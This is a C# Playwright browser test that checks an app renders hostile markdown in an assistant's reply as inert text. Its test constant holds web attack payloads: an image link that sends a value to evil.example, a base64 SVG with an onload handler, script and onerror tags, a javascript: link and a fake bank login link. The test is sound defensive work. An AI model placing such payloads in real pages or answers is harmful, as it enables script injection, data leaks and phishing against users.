using Microsoft.Playwright;
using static Microsoft.Playwright.Assertions;

namespace Onbehalf.Tests.Journeys;

/// <summary>T26 in the web app: text of others is displayed as text, fetches nothing and executes nothing.</summary>
public sealed class BrowserMarkdownTests(BrowserStage stage) : BrowserTests(stage)
{
    private const string Hostile = """
        Before ![chart](https://evil.example/p.png?d=122262.50) and ![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)

        <script>document.title = 'taken over'</script> <img src=x onerror="document.title = 'taken over'">

        [harmless](javascript:document.title='taken over') [bank](https://evil.example/login "your bank") after
        """;

    [BrowserFact]
    public async Task T26_scripts_remote_images_and_data_addresses_in_an_answer_stay_words()
    {
        var alice = await Stage.SignInAsync("alice");
        var bob = await Stage.SignInAsync("bob");
        var title = $"Hostile {Guid.NewGuid():N}";
        var space = await PostAsync(alice, "/api/wiki/spaces", new { name = title, readers = new[] { "employees" }, writers = new[] { "hr" } });
        await PostAsync(alice, $"/api/wiki/spaces/{space}/pages", new { title, text = Hostile });
        await BrowserStage.OpenThreadAsync(alice, bob, "Bob");

        await BrowserStage.AskAsync(alice, $"read page {title}");
        await Expect(alice.Locator(".reply").First).ToContainTextAsync("after");

        await Expect(alice.Locator(".reply img, .reply iframe, .reply script, .reply object")).ToHaveCountAsync(0);
        await Expect(alice.Locator(".reply a[href^='javascript'], .reply a[href^='data']")).ToHaveCountAsync(0);
        await Expect(alice.Locator(".reply").First).ToContainTextAsync("evil.example");
        Assert.DoesNotContain("taken over", await alice.TitleAsync(), StringComparison.Ordinal);
        Assert.Empty(Stage.Complaints);
    }

    private static async Task<string> PostAsync(IPage page, string path, object body)
    {
        var origin = new Uri(page.Url).GetLeftPart(UriPartial.Authority);
        var answer = await page.APIRequest.PostAsync(path, new() { DataObject = body, Headers = [new("Origin", origin), new("X-Onbehalf", "1")] });
        return (await answer.JsonAsync())?.GetProperty("id").GetString() ?? throw new InvalidOperationException(await answer.TextAsync());
    }
}
